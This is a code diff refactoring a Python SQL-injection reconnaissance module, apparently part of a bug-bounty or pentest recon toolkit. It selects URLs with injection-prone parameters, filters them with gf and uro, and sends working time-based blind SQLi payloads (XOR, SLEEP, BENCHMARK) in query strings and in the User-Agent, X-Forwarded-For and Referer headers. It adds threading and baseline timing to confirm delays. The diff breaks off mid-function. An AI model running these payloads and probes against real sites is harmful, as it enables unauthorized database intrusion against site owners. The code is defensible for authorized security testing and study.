@@ -1,20 +1,108 @@
 import os
+import re
 import shutil
+import statistics
 import subprocess
+import threading
 import time
 import requests
+from requests.adapters import HTTPAdapter
+from urllib3.exceptions import ReadTimeoutError
 import glob
 from pathlib import Path
-from typing import Dict, Any, Set, List
-from urllib.parse import urlparse
+from typing import Dict, Any, Set, List, Optional, Tuple
+from functools import lru_cache
+from urllib.parse import urlsplit
 from concurrent.futures import ThreadPoolExecutor, as_completed
 
 from common.config import CONFIG
 from common.logger import Logger
 from common.utils import run_command, ensure_dir
+from common.finder import url_path_lower
 
+# Top 20 SQL injection prone parameters
+SQL_PARAMS = (
+    'id', 'page', 'category', 'product', 'article', 'news', 'item',
+    'user', 'member', 'account', 'profile', 'view', 'show', 'display',
+    'search', 'query', 'keyword', 'term', 'q', 's'
+)
+
+# File extensions that commonly have SQLi vulnerabilities
+VULNERABLE_EXTENSIONS = frozenset({'.php', '.asp', '.aspx', '.jsp', '.jspx', '.do', '.action'})
+
+# Common vulnerable file patterns
+VULNERABLE_FILES = (
+    'product.php', 'view.php', 'show.php', 'display.php', 'detail.php',
+    'article.php', 'news.php', 'item.php', 'user.php', 'member.php',
+    'profile.php', 'account.php', 'search.php', 'query.php', 'result.php',
+    'list.php', 'category.php', 'page.php', 'index.php', 'main.php',
+    'product.asp', 'view.asp', 'show.asp', 'detail.asp', 'article.asp',
+    'news.asp', 'item.asp', 'user.asp', 'member.asp', 'profile.asp',
+    'account.asp', 'search.asp', 'query.asp', 'result.asp', 'list.asp',
+    'category.asp', 'page.asp', 'index.asp', 'main.asp'
+)
+
+# Common SQLi indicators in URL
+SQL_INDICATORS = (
+    'select', 'union', 'insert', 'update', 'delete', 'drop', 'create',
+    'alter', 'exec', 'execute', 'script', 'javascript', 'vbscript'
+)
+
+SQL_PARAMS_SET = frozenset(SQL_PARAMS)
+
+# One alternation instead of a Python-level substring scan per pattern. Indicators
+# must stand alone as words, so /selection/ or unionpay.com do not count; letters
+# bound the word rather than \b so %20union%20select still matches.
+SQL_INDICATOR_RE = re.compile(
+    r'(?i)(?<![a-z])(?:' + '|'.join(re.escape(indicator) for indicator in SQL_INDICATORS) + r')(?![a-z])'
+)
+VULNERABLE_FILES_RE = re.compile('|'.join(re.escape(file) for file in VULNERABLE_FILES))
+
+# Probe response bodies are read, and timed, up to this many bytes; a body read to the
+# end also lets its connection be reused
+PROBE_DRAIN_MAX_BYTES = 65536
+
+# Requests per host whose median response time is the delay baseline
+BASELINE_SAMPLES = 3
+
+# Sleep arguments of the time-based payloads, rewritten for the short screening pass
+SLEEP_ARG_RE = re.compile(r'(?i)(sleep\()\d+')
+BENCHMARK_ARG_RE = re.compile(r'(?i)(benchmark\()(\d+)')
+
+# Time-based payloads, written to sleep about 10 seconds
+MANUAL_PAYLOADS = (
+    "'XOR(if(now()=sysdate(),sleep(10),0))XOR'Z",
+    '"XOR(if(now()=sysdate(),sleep(10),0))XOR"Z',
+    "'XOR(SELECT(0)FROM(SELECT(SLEEP(10)))a)XOR'Z",
+    "X'XOR(if(now()=sysdate(),sleep(10),0))XOR'X",
+    "(SELECT * FROM (SELECT(SLEEP(10)))a)",
+    "BENCHMARK(10000000,MD5(CHAR(116)))",
+    "if(now()=sysdate(),sleep(10),0)",
+    "'XOR(if(now()=sysdate(),sleep(10),0))XOR'",
+    "0'XOR(if(now()=sysdate(),sleep(10),0))XOR'Z",
+    "(select(0)from(select(sleep(10)))v)"
+)
+
+HEADER_PAYLOADS = (
+    "'XOR(if(now()=sysdate(),sleep(10),0))XOR'Z",
+    '"XOR(if(now()=sysdate(),sleep(10),0))XOR"Z',
+    "X'XOR(if(now()=sysdate(),sleep(10),0))XOR'X",
+    "BENCHMARK(10000000,MD5(CHAR(116)))",
+    "if(now()=sysdate(),sleep(10),0)"
+)
+
+HEADERS_TO_TEST = ("User-Agent", "X-Forwarded-For", "Referer")
+
+XOR_PAYLOADS = (
+    "0'XOR(if(now()=sysdate(),sleep(10),0))XOR'Z",
+    "0'XOR(if(now()=sysdate(),sleep(10*1),0))XOR'Z",
+    "0'|(IF((now())LIKE(sysdate()),SLEEP(10),0))|'Z",
+    "XOR(if(now()=sysdate(),sleep(7),0))XOR%23"
+)
+
+@lru_cache(maxsize=1)
 def get_gf_path() -> str:
-    """Get the path to the gf binary with improved detection."""
+    """Get the path to the gf binary with improved detection. Resolved once per process."""
     # First try to find gf in PATH
     gf_path = shutil.which("gf")
     if gf_path:
@@ -49,6 +137,24 @@ def get_gf_path() -> str:
     # This will cause an error if gf is not installed, which is appropriate
     return "gf"
 
+def has_sql_param(url: str) -> bool:
+    """
+    Check the query string for an SQL injection prone parameter name.
+    
+    Names are compared lowercased without a trailing "[]"; any name ending in "id"
+    also counts, which covers the "_id" and "id" variations of every parameter.
+    """
+    for pair in url.partition('?')[2].split('&'):
+        name, sep, _ = pair.partition('=')
+        if not sep:
+            continue
+        name = name.lower()
+        if name.endswith('[]'):
+            name = name[:-2]
+        if name in SQL_PARAMS_SET or name.endswith('id'):
+            return True
+    return False
+
 def run(args: Any, config: Dict, logger: Logger, workflow_data: Dict) -> Dict:
     """
     SQLi reconnaissance module that uses discovered URLs from previous modules.
@@ -121,8 +227,7 @@ def run(args: Any, config: Dict, logger: Logger, workflow_data: Dict) -> Dict:
     # Save final filtered targets
     targets_file = sqli_results_dir / config['files']['sqli_targets']
     with targets_file.open('w') as f:
-        for url in sorted(final_targets):
-            f.write(f"{url}\n")
+        f.writelines(f"{url}\n" for url in sorted(final_targets))
     
     logger.success(f"[{target}] Found {len(final_targets)} final SQLi targets after gf sqli filtering.")
     
@@ -161,68 +266,23 @@ def filter_sqli_targets(urls: Set[str], logger: Logger) -> Set[str]:
     """Filter URLs for potential SQLi targets using top 20 SQL injection prone parameters and gf sqli."""
     sqli_targets = set()
     
-    # Top 20 SQL injection prone parameters
-    sql_params = [
-        'id', 'page', 'category', 'product', 'article', 'news', 'item',
-        'user', 'member', 'account', 'profile', 'view', 'show', 'display',
-        'search', 'query', 'keyword', 'term', 'q', 's'
-    ]
-    
-    # File extensions that commonly have SQLi vulnerabilities
-    vulnerable_extensions = ['.php', '.asp', '.aspx', '.jsp', '.jspx', '.do', '.action']
-    
-    # Common vulnerable file patterns
-    vulnerable_files = [
-        'product.php', 'view.php', 'show.php', 'display.php', 'detail.php',
-        'article.php', 'news.php', 'item.php', 'user.php', 'member.php',
-        'profile.php', 'account.php', 'search.php', 'query.php', 'result.php',
-        'list.php', 'category.php', 'page.php', 'index.php', 'main.php',
-        'product.asp', 'view.asp', 'show.asp', 'detail.asp', 'article.asp',
-        'news.asp', 'item.asp', 'user.asp', 'member.asp', 'profile.asp',
-        'account.asp', 'search.asp', 'query.asp', 'result.asp', 'list.asp',
-        'category.asp', 'page.asp', 'index.asp', 'main.asp'
-    ]
-    
     for url in urls:
-        parsed = urlparse(url)
-        url_lower = url.lower()
-        
-        # Check for SQL injection prone parameters
-        if any(f"{param}=" in url_lower for param in sql_params):
+        # SQL injection prone parameters (plain, array and ID variations)
+        if has_sql_param(url):
             sqli_targets.add(url)
             continue
         
-        # Check for array parameters (common in SQLi)
-        if any(f"{param}[]=" in url_lower for param in sql_params):
+        # Common SQLi indicators in URL
+        if SQL_INDICATOR_RE.search(url):
             sqli_targets.add(url)
             continue
         
-        # Check for ID variations
-        if any(f"{param}_id=" in url_lower or f"{param}id=" in url_lower for param in sql_params):
-            sqli_targets.add(url)
-            continue
-        
-        # Check for vulnerable file extensions with parameters
-        if any(ext in parsed.path.lower() for ext in vulnerable_extensions):
-            if '=' in url:
+        # Vulnerable file extensions or file patterns with parameters
+        if '=' in url:
+            path_lower = url_path_lower(url)
+            if os.path.splitext(path_lower)[1] in VULNERABLE_EXTENSIONS or VULNERABLE_FILES_RE.search(path_lower):
                 sqli_targets.add(url)
                 continue
-        
-        # Check for vulnerable file patterns
-        if any(file in parsed.path.lower() for file in vulnerable_files):
-            if '=' in url:
-                sqli_targets.add(url)
-                continue
-        
-        # Check for common SQLi indicators in URL
-        sql_indicators = [
-            'select', 'union', 'insert', 'update', 'delete', 'drop', 'create',
-            'alter', 'exec', 'execute', 'script', 'javascript', 'vbscript'
-        ]
-        
-        if any(indicator in url_lower for indicator in sql_indicators):
-            sqli_targets.add(url)
-            continue
     
     logger.info(f"Initial filtering found {len(sqli_targets)} potential SQLi targets from {len(urls)} URLs.")
     
@@ -239,25 +299,15 @@ def apply_gf_sqli_filter(urls: Set[str], logger: Logger) -> Set[str]:
     
     # First check if gf tool is available
     gf_path = get_gf_path()
-    if not shutil.which(gf_path) and not os.path.exists(gf_path):
+    # which() also accepts an absolute path and checks it is executable
+    if not shutil.which(gf_path):
         logger.warning("gf tool not found. Skipping gf sqli filtering.")
         return urls
     
     try:
-        # Create a temporary file with URLs
-        import tempfile
-        with tempfile.NamedTemporaryFile(mode='w', delete=False, suffix='.txt') as temp_file:
-            for url in urls:
-                temp_file.write(f"{url}\n")
-            temp_file_path = temp_file.name
-        
-        # Run gf sqli command with improved error handling
-        cmd = f"cat {temp_file_path} | {gf_path} sqli"
-        logger.debug(f"Running gf sqli command: {cmd}")
-        exit_code, stdout, stderr = run_command(cmd, timeout=300, shell=True)
-        
-        # Clean up temp file
-        os.unlink(temp_file_path)
+        # Feed the URLs to gf on stdin
+        logger.debug(f"Running gf sqli command: {gf_path} sqli")
+        exit_code, stdout, stderr = run_command([gf_path, 'sqli'], timeout=300, input='\n'.join(urls) + '\n')
         
         if exit_code == 0:
             if stdout and stdout.strip():
@@ -284,25 +334,15 @@ def consolidate_and_filter_sqli(urls: Set[str], logger: Logger) -> Set[str]:
     
     # Check if gf tool is available
     gf_path = get_gf_path()
-    if not shutil.which(gf_path) and not os.path.exists(gf_path):
+    # which() also accepts an absolute path and checks it is executable
+    if not shutil.which(gf_path):
         logger.warning("gf tool not found. Skipping gf sqli filtering in consolidation.")
         return urls
     
     try:
-        # Create a temporary file with all URLs
-        import tempfile
-        with tempfile.NamedTemporaryFile(mode='w', delete=False, suffix='.txt') as temp_file:
-            for url in urls:
-                temp_file.write(f"{url}\n")
-            temp_file_path = temp_file.name
-        
-        # Apply the filtering pipeline: cat urls | gf sqli | uro
-        cmd = f"cat {temp_file_path} | {gf_path} sqli | uro"
-        logger.debug(f"Running consolidation command: {cmd}")
-        exit_code, stdout, stderr = run_command(cmd, timeout=300, shell=True)
-        
-        # Clean up temp file
-        os.unlink(temp_file_path)
+        # Apply the filtering pipeline: gf sqli | uro, fed on stdin
+        logger.debug(f"Running consolidation command: {gf_path} sqli | uro")
+        exit_code, stdout, stderr = run_gf_uro_pipeline(gf_path, urls, timeout=300)
         
         if exit_code == 0:
             if stdout and stdout.strip():
@@ -323,6 +363,53 @@ def consolidate_and_filter_sqli(urls: Set[str], logger: Logger) -> Set[str]:
         # Return original URLs if there's an error
         return urls
 
+def run_gf_uro_pipeline(gf_path: str, urls: Set[str], timeout: int = 300) -> Tuple[int, str, str]:
+    """Pipe URLs through `gf sqli | uro` without a shell or temp file. Returns (exit_code, stdout, stderr) like run_command."""
+    # gf reads straight from an OS pipe; the parent writes raw bytes to the other end
+    read_fd, write_fd = os.pipe()
+    try:
+        gf = subprocess.Popen([gf_path, 'sqli'], stdin=read_fd, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
+    except FileNotFoundError:
+        os.close(read_fd)
+        os.close(write_fd)
+        return -1, "", f"Command not found: {gf_path}"
+    os.close(read_fd)
+    try:
+        uro = subprocess.Popen(['uro'], stdin=gf.stdout, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    except FileNotFoundError:
+        os.close(write_fd)
+        gf.kill()
+        gf.wait()
+        return -1, "", "Command not found: uro"
+    # uro owns the read end now, so gf gets SIGPIPE if uro exits early
+    gf.stdout.close()
+    
+    # Feed gf from a thread so a full pipe cannot stall the read of uro's output
+    def feed():
+        data = memoryview(('\n'.join(urls) + '\n').encode())
+        try:
+            while data:
+                data = data[os.write(write_fd, data):]
+        except OSError:
+            pass
+        finally:
+            os.close(write_fd)
+    feeder = threading.Thread(target=feed, daemon=True)
+    feeder.start()
+    
+    try:
+        stdout, stderr = uro.communicate(timeout=timeout)
+    except subprocess.TimeoutExpired:
+        uro.kill()
+        gf.kill()
+        uro.communicate()
+        gf.wait()
+        return -1, "", f"Command timed out after {timeout} seconds"
+    feeder.join()
+    gf.wait()
+    # Like the shell pipeline, the exit status is the last command's
+    return uro.returncode, stdout, stderr
+
 def run_automated_scan(targets_file: Path, scanner: str, config: Dict, logger: Logger):
     """Run automated SQLi scanning with sqlmap or ghauri."""
     if not targets_file.exists() or targets_file.stat().st_size == 0:
@@ -347,26 +434,184 @@ def run_automated_scan(targets_file: Path, scanner: str, config: Dict, logger: L
     else:
         logger.error(f"Automated SQLi scan failed with exit code {exit_code}")
 
+class ProbeProgress:
+    """Thread-safe counter that logs progress every `every` completed tests."""
+    
+    def __init__(self, total: int, logger: Logger, every: int, show_runtime: bool = False):
+        self.total = total
+        self.logger = logger
+        self.every = every
+        self.show_runtime = show_runtime
+        self.start_time = time.time()
+        self.completed = 0
+        self.lock = threading.Lock()
+    
+    def tick(self):
+        with self.lock:
+            self.completed += 1
+            completed = self.completed
+        if completed % self.every == 0:
+            message = f"Progress: {completed}/{self.total} tests completed ({completed/self.total*100:.1f}%)"
+            if self.show_runtime:
+                message += f" - Runtime: {time.time() - self.start_time:.1f}s"
+            self.logger.info(message)
+
+def build_probe_session(pool_size: int) -> requests.Session:
+    """Session shared by the probe threads so each host's connection is reused across payloads."""
+    session = requests.Session()
+    adapter = HTTPAdapter(pool_connections=pool_size, pool_maxsize=pool_size, max_retries=0)
+    session.mount('http://', adapter)
+    session.mount('https://', adapter)
+    session.verify = False
+    return session
+
+def timed_get(session: requests.Session, url: str, headers: Dict, timeout: int) -> float:
+    """
+    Return the seconds until the response body has been read, up to PROBE_DRAIN_MAX_BYTES.
+    
+    Most time-based payloads delay the response before its headers are sent, but pages
+    that flush their headers early (streamed or chunked output) only show the delay in
+    the body. Reading is capped so a large page cannot stretch the measurement; a body
+    read to the end sends its connection back to the pool, a larger one is dropped.
+    """
+    start = time.time()
+    # Redirects are followed: the injected value is often only evaluated by the page a
+    # normalising 301/302 lands on. The baseline is timed the same way, so the extra
+    # hops cancel out of the delay.
+    with session.get(url, headers=headers, timeout=timeout, allow_redirects=True, stream=True) as response:
+        remaining = PROBE_DRAIN_MAX_BYTES
+        try:
+            for chunk in response.iter_content(chunk_size=16384):
+                remaining -= len(chunk)
+                if remaining <= 0:
+                    break
+        except requests.exceptions.ConnectionError as e:
+            # iter_content reports a stalled body as a ConnectionError; it is a timeout here
+            if isinstance(e.args[0], ReadTimeoutError):
+                raise requests.exceptions.ReadTimeout(e) from e
+            raise
+        elapsed = time.time() - start
+    return elapsed
+
+def measure_baseline(session: requests.Session, url: str, timeout: int, samples: int = BASELINE_SAMPLES) -> float:
+    """Median response time of the unmodified URL, or 0.0 if it cannot be fetched."""
+    timings = []
+    for _ in range(samples):
+        try:
+            timings.append(timed_get(session, url, None, timeout))
+        except Exception:
+            continue
+    return statistics.median(timings) if timings else 0.0
+
+class HostBaselines:
+    """Baseline response time per host, measured once from the first URL probed on it."""
+    
+    def __init__(self, timeout: int):
+        self.timeout = timeout
+        self.baselines = {}
+        self.host_locks = {}
+        self.lock = threading.Lock()
+    
+    def get(self, session: requests.Session, url: str) -> float:
+        host = urlsplit(url).netloc.lower()
+        with self.lock:
+            if host in self.baselines:
+                return self.baselines[host]
+            host_lock = self.host_locks.setdefault(host, threading.Lock())
+        # Other threads probing the same host wait here instead of measuring it again
+        with host_lock:
+            with self.lock:
+                if host in self.baselines:
+                    return self.baselines[host]
+            baseline = measure_baseline(session, url, self.timeout)
+            with self.lock:
+                self.baselines[host] = baseline
+            return baseline
+
+def shorten_payload(payload: str, seconds: int) -> str:
+    """Rewrite a time-based payload to sleep `seconds` instead of the ~10 seconds it was written for."""
+    payload = SLEEP_ARG_RE.sub(lambda m: f"{m.group(1)}{seconds}", payload)
+    return BENCHMARK_ARG_RE.sub(lambda m: f"{m.group(1)}{int(m.group(2)) * seconds // 10}", payload)
+
+def probe_elapsed(session: requests.Session, url: str, headers: Dict, timeout: int,
+                  description: str, logger: Logger) -> Optional[float]:
+    """Seconds until the probe's response has been read, inf on timeout, None if the request failed."""
+    try:
+        return timed_get(session, url, headers, timeout)
+    
+    except requests.exceptions.Timeout:
+        return float('inf')
+        
+    except requests.exceptions.ConnectionError:
+        logger.debug(f"Connection error for {description}")
+        
+    except requests.exceptions.RequestException as e:
+        logger.debug(f"Request failed for {description}: {e}")
+        
+    except Exception as e:
+        logger.debug(f"Unexpected error for {description}: {e}")
+    
+    return None
+
+def send_timed_probes(session: requests.Session, probes: List[Tuple[Tuple, Tuple, str, Tuple]], timeout: int,
+                      screen_threshold: float, delay_threshold: float, logger: Logger, progress: ProbeProgress,
+                      stop: threading.Event = None, baseline: float = 0.0) -> Optional[Tuple]:
+    """
+    Send probes one after another until one is confirmed delayed.
+    
+    Each probe is (screen, confirm, description, record), where screen and confirm are
+    (url, headers) for the short-sleep and full-sleep form of the payload. Only a screen
+    slower than baseline + screen_threshold is followed by its confirm request; the record
+    of the first confirm slower than baseline + delay_threshold is returned with the
+    elapsed time appended. Probes for one URL stay sequential so concurrent sleep payloads
+    cannot slow each other down.
+    """
+    for screen, confirm, description, record in probes:
+        if stop is not None and stop.is_set():
+            return None
+        progress.tick()
+        
+        elapsed = probe_elapsed(session, *screen, timeout, description, logger)
+        if elapsed is None or elapsed - baseline <= screen_threshold:
+            continue
+        logger.debug(f"Screening payload delayed {description}; confirming with the full payload")
+        
+        elapsed = probe_elapsed(session, *confirm, timeout, description, logger)
+        if elapsed is None:
+            continue
+        if elapsed == float('inf'):
+            logger.success(f"[TIMEOUT] {description} (>{timeout}s)")
+            return record + (timeout,)  # Move on after finding vulnerability
+        if elapsed - baseline > delay_threshold:
+            logger.success(f"[DELAYED] {description} (delay: {elapsed:.1f}s, baseline: {baseline:.1f}s)")
+            return record + (elapsed,)  # Move on after finding vulnerability
+        logger.debug(f"Delay not confirmed for {description} ({elapsed:.1f}s)")
+    
+    return None
+
+def run_probe_tasks(tasks: List, probe_task, max_workers: int, logger: Logger) -> List[Tuple]:
+    """Run probe_task over tasks in a thread pool and collect the non-empty results."""
+    vulnerable = []
+    with ThreadPoolExecutor(max_workers=max(1, max_workers)) as executor:
+        futures = [executor.submit(probe_task, task) for task in tasks]
+        for future in as_completed(futures):
+            try:
+                result = future.result()
+            except Exception as e:
+                logger.debug(f"Probe task failed: {e}")
+                continue
+            if result:
+                vulnerable.append(result)
+    return vulnerable
+
 def run_manual_blind_test(targets_file: Path, config: Dict, logger: Logger) -> Dict:
     """Run manual blind SQLi test using time-based payloads."""
     logger.info("Running manual blind SQLi test...")
     
-    payloads = [
-        "'XOR(if(now()=sysdate(),sleep(10),0))XOR'Z",
-        '"XOR(if(now()=sysdate(),sleep(10),0))XOR"Z',
-        "'XOR(SELECT(0)FROM(SELECT(SLEEP(10)))a)XOR'Z",
-        "X'XOR(if(now()=sysdate(),sleep(10),0))XOR'X",
-        "(SELECT * FROM (SELECT(SLEEP(10)))a)",
-        "BENCHMARK(10000000,MD5(CHAR(116)))",
-        "if(now()=sysdate(),sleep(10),0)",
-        "'XOR(if(now()=sysdate(),sleep(10),0))XOR'",
-        "0'XOR(if(now()=sysdate(),sleep(10),0))XOR'Z",
-        "(select(0)from(select(sleep(10)))v)"
-    ]
-    
-    vulnerable = []
     timeout = config['sqli']['timeout']
     delay_threshold = config['sqli']['delay_threshold']
+    screen_sleep = config['sqli']['screen_sleep']
+    screen_threshold = config['sqli']['screen_threshold']
     
     with targets_file.open('r') as f:
         urls = [line.strip() for line in f if line.strip()]
@@ -375,68 +620,57 @@ def run_manual_blind_test(targets_file: Path, config: Dict, logger: Logger) -> D
         logger.warning("No URLs found in targets file for manual blind testing.")
         return {"vulnerable_count": 0}
     
-    logger.info(f"Testing {len(urls)} URLs with {len(payloads)} payloads each...")
-    total_tests = len(urls) * len(payloads)
-    tests_completed = 0
+    urls = filter_injectable_urls(urls, logger)
+    if not urls:
+        logger.warning("No URLs with an injectable parameter for manual blind testing.")
+        return {"vulnerable_count": 0}
+    
+    logger.info(f"Testing {len(urls)} URLs with {len(MANUAL_PAYLOADS)} payloads each...")
+    progress = ProbeProgress(len(urls) * len(MANUAL_PAYLOADS), logger, every=10, show_runtime=True)
+    baselines = HostBaselines(timeout)
     
     # Add global timeout (30 minutes max)
-    start_time = time.time()
     max_runtime = 1800  # 30 minutes
-    
-    for url_idx, url in enumerate(urls, 1):
-        # Check global timeout
-        if time.time() - start_time > max_runtime:
-            logger.warning(f"Global timeout reached ({max_runtime}s). Stopping manual blind test.")
-            break
-            
+    stop = threading.Event()
+    timer = threading.Timer(max_runtime, stop.set)
+    timer.daemon = True
+    timer.start()
+    
+    def test_url(task):
+        url_idx, url = task
+        if stop.is_set():
+            return None
         logger.info(f"Testing URL {url_idx}/{len(urls)}: {url}")
-        
-        for payload_idx, payload in enumerate(payloads, 1):
-            tests_completed += 1
-            
-            # Progress logging every 10 tests
-            if tests_completed % 10 == 0:
-                elapsed_time = time.time() - start_time
-                logger.info(f"Progress: {tests_completed}/{total_tests} tests completed ({tests_completed/total_tests*100:.1f}%) - Runtime: {elapsed_time:.1f}s")
-            
-            test_url = inject_payload(url, payload)
-            
-            try:
-                start = time.time()
-                response = requests.get(test_url, timeout=timeout, allow_redirects=True, verify=False)
-                elapsed = time.time() - start
-                
-                if elapsed > delay_threshold:
-                    logger.success(f"[DELAYED] {test_url} (delay: {elapsed:.1f}s)")
-                    vulnerable.append((test_url, payload, elapsed))
-                    break  # Move to next URL after finding vulnerability
-                    
-            except requests.exceptions.Timeout:
-                logger.success(f"[TIMEOUT] {test_url} (>{timeout}s)")
-                vulnerable.append((test_url, payload, timeout))
-                break  # Move to next URL after finding vulnerability
-                
-            except requests.exceptions.ConnectionError:
-                logger.debug(f"Connection error for {test_url}")
-                continue
-                
-            except requests.exceptions.RequestException as e:
-                logger.debug(f"Request failed for {test_url}: {e}")
-                continue
-                
-            except Exception as e:
-                logger.debug(f"Unexpected error for {test_url}: {e}")
-                continue
+        # Split the URL once; each payload is then a single concatenation
+        prefix, suffix = prepare_injection(url)
+        probes = []
+        for payload in MANUAL_PAYLOADS:
+            injected = prefix + payload + suffix
+            screen = (prefix + shorten_payload(payload, screen_sleep) + suffix, None)
+            probes.append((screen, (injected, None), injected, (injected, payload)))
+        baseline = baselines.get(session, url)
+        return send_timed_probes(session, probes, timeout, screen_threshold, delay_threshold, logger, progress,
+                                 stop, baseline)
+    
+    max_workers = config['sqli']['max_workers']
+    session = build_probe_session(max_workers)
+    try:
+        vulnerable = run_probe_tasks(list(enumerate(urls, 1)), test_url, max_workers, logger)
+    finally:
+        timer.cancel()
+        session.close()
     
-    total_runtime = time.time() - start_time
+    if stop.is_set():
+        logger.warning(f"Global timeout reached ({max_runtime}s). Stopped manual blind test.")
+    
+    total_runtime = time.time() - progress.start_time
     logger.info(f"Manual blind test completed in {total_runtime:.1f}s")
     
     # Save results
     if vulnerable:
         results_file = targets_file.parent / "sqli_manual_results.txt"
         with results_file.open('w') as f:
-            for url, payload, elapsed in vulnerable:
-                f.write(f"{url}\t{payload}\t{elapsed:.1f}s\n")
+            f.writelines(f"{url}\t{payload}\t{elapsed:.1f}s\n" for url, payload, elapsed in vulnerable)
         logger.success(f"Manual blind SQLi test found {len(vulnerable)} vulnerable URLs.")
         return {"vulnerable_count": len(vulnerable), "results_file": str(results_file)}
     else:
@@ -447,18 +681,10 @@ def run_header_sqli_test(targets_file: Path, config: Dict, logger: Logger) -> Di
     """Run header-based blind SQLi test."""
     logger.info("Running header-based blind SQLi test...")
     
-    payloads = [
-        "'XOR(if(now()=sysdate(),sleep(10),0))XOR'Z",
-        '"XOR(if(now()=sysdate(),sleep(10),0))XOR"Z',
-        "X'XOR(if(now()=sysdate(),sleep(10),0))XOR'X",
-        "BENCHMARK(10000000,MD5(CHAR(116)))",
-        "if(now()=sysdate(),sleep(10),0)"
-    ]
-    
-    headers_to_test = ["User-Agent", "X-Forwarded-For", "Referer"]
-    vulnerable = []
     timeout = config['sqli']['timeout']
     delay_threshold = config['sqli']['delay_threshold']
+    screen_sleep = config['sqli']['screen_sleep']
+    screen_threshold = config['sqli']['screen_threshold']
     
     with targets_file.open('r') as f:
         urls = [line.strip() for line in f if line.strip()]
@@ -467,56 +693,34 @@ def run_header_sqli_test(targets_file: Path, config: Dict, logger: Logger) -> Di
         logger.warning("No URLs found in targets file for header-based testing.")
         return {"vulnerable_count": 0}
     
-    logger.info(f"Testing {len(urls)} URLs with {len(payloads)} payloads in {len(headers_to_test)} headers each...")
-    total_tests = len(urls) * len(headers_to_test) * len(payloads)
-    tests_completed = 0
-    
-    for url_idx, url in enumerate(urls, 1):
-        logger.info(f"Testing URL {url_idx}/{len(urls)}: {url}")
-        
-        for header in headers_to_test:
-            for payload_idx, payload in enumerate(payloads, 1):
-                tests_completed += 1
-                
-                # Progress logging every 20 tests
-                if tests_completed % 20 == 0:
-                    logger.info(f"Progress: {tests_completed}/{total_tests} tests completed ({tests_completed/total_tests*100:.1f}%)")
-                
-                custom_headers = {header: payload}
-                
-                try:
-                    start = time.time()
-                    response = requests.get(url, headers=custom_headers, timeout=timeout, allow_redirects=True, verify=False)
-                    elapsed = time.time() - start
-                    
-                    if elapsed > delay_threshold:
-                        logger.success(f"[DELAYED] {url} ({header}: {payload}) (delay: {elapsed:.1f}s)")
-                        vulnerable.append((url, header, payload, elapsed))
-                        break  # Move to next header after finding vulnerability
-                        
-                except requests.exceptions.Timeout:
-                    logger.success(f"[TIMEOUT] {url} ({header}: {payload}) (>{timeout}s)")
-                    vulnerable.append((url, header, payload, timeout))
-                    break  # Move to next header after finding vulnerability
-                    
-                except requests.exceptions.ConnectionError:
-                    logger.debug(f"Connection error for {url} with {header}")
-                    continue
-                    
-                except requests.exceptions.RequestException as e:
-                    logger.debug(f"Request failed for {url} with {header}: {e}")
-                    continue
-                    
-                except Exception as e:
-                    logger.debug(f"Unexpected error for {url} with {header}: {e}")
-                    continue
+    logger.info(f"Testing {len(urls)} URLs with {len(HEADER_PAYLOADS)} payloads in {len(HEADERS_TO_TEST)} headers each...")
+    progress = ProbeProgress(len(urls) * len(HEADERS_TO_TEST) * len(HEADER_PAYLOADS), logger, every=20)
+    baselines = HostBaselines(timeout)
+    
+    def test_url(url):
+        # Headers are tried one after another so probes against the same URL never overlap;
+        # a hit in one header moves on to the next
+        baseline = baselines.get(session, url)
+        hits = []
+        for header in HEADERS_TO_TEST:
+            probes = [((url, {header: shorten_payload(payload, screen_sleep)}), (url, {header: payload}),
+                       f"{url} ({header}: {payload})", (url, header, payload))
+                      for payload in HEADER_PAYLOADS]
+            hit = send_timed_probes(session, probes, timeout, screen_threshold, delay_threshold, logger, progress,
+                                    baseline=baseline)
+            if hit:
+                hits.append(hit)
+        return hits
+    
+    max_workers = config['sqli']['max_workers']
+    with build_probe_session(max_workers) as session:
+        vulnerable = [hit for hits in run_probe_tasks(urls, test_url, max_workers, logger) for hit in hits]
     
     # Save results
     if vulnerable:
         results_file = targets_file.parent / "sqli_header_results.txt"
         with results_file.open('w') as f:
-            for url, header, payload, elapsed in vulnerable:
-                f.write(f"{url}\t{header}\t{payload}\t{elapsed:.1f}s\n")
+            f.writelines(f"{url}\t{header}\t{payload}\t{elapsed:.1f}s\n" for url, header, payload, elapsed in vulnerable)
         logger.success(f"Header-based SQLi test found {len(vulnerable)} vulnerable URLs.")
         return {"vulnerable_count": len(vulnerable), "results_file": str(results_file)}
     else:
@@ -527,16 +731,10 @@ def run_xor_blind_test(targets_file: Path, config: Dict, logger: Logger) -> Dict
     """Run XOR blind SQLi test."""
     logger.info("Running XOR blind SQLi test...")
     
-    xor_payloads = [
-        "0'XOR(if(now()=sysdate(),sleep(10),0))XOR'Z",
-        "0'XOR(if(now()=sysdate(),sleep(10*1),0))XOR'Z",
-        "0'|(IF((now())LIKE(sysdate()),SLEEP(10),0))|'Z",
-        "XOR(if(now()=sysdate(),sleep(7),0))XOR%23"
-    ]
-    
-    vulnerable = []
     timeout = config['sqli']['timeout']
     delay_threshold = config['sqli']['delay_threshold']
+    screen_sleep = config['sqli']['screen_sleep']
+    screen_threshold = config['sqli']['screen_threshold']
     
     with targets_file.open('r') as f:
         urls = [line.strip() for line in f if line.strip()]
@@ -545,72 +743,63 @@ def run_xor_blind_test(targets_file: Path, config: Dict, logger: Logger) -> Dict
         logger.warning("No URLs found in targets file for XOR testing.")
         return {"vulnerable_count": 0}
     
-    logger.info(f"Testing {len(urls)} URLs with {len(xor_payloads)} XOR payloads each...")
-    total_tests = len(urls) * len(xor_payloads)
-    tests_completed = 0
+    urls = filter_injectable_urls(urls, logger)
+    if not urls:
+        logger.warning("No URLs with an injectable parameter for XOR testing.")
+        return {"vulnerable_count": 0}
     
-    for url_idx, url in enumerate(urls, 1):
+    logger.info(f"Testing {len(urls)} URLs with {len(XOR_PAYLOADS)} XOR payloads each...")
+    progress = ProbeProgress(len(urls) * len(XOR_PAYLOADS), logger, every=10)
+    baselines = HostBaselines(timeout)
+    
+    def test_url(task):
+        url_idx, url = task
         logger.info(f"Testing URL {url_idx}/{len(urls)}: {url}")
-        
-        for payload_idx, payload in enumerate(xor_payloads, 1):
-            tests_completed += 1
-            
-            # Progress logging every 10 tests
-            if tests_completed % 10 == 0:
-                logger.info(f"Progress: {tests_completed}/{total_tests} tests completed ({tests_completed/total_tests*100:.1f}%)")
-            
-            test_url = inject_payload(url, payload)
-            
-            try:
-                start = time.time()
